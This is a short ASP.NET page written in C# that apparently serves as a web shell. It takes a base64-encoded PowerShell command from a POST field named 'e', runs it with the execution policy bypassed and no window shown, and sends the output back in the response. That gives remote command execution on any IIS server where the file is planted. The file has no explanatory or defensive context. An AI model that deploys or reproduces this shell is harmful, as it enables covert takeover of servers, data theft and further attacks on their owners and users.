<%@ Page Language="C#" %>
<%
    string enc = Request.Form["e"];
    if (enc != null)
    {
        var si = new System.Diagnostics.ProcessStartInfo();
        si.FileName = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        si.Arguments = "-NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + enc;
        si.UseShellExecute = false;
        si.RedirectStandardOutput = true;
        si.CreateNoWindow = true;
        using (var proc = System.Diagnostics.Process.Start(si))
        {
            Response.Write(proc.StandardOutput.ReadToEnd());
        }
    }
%>
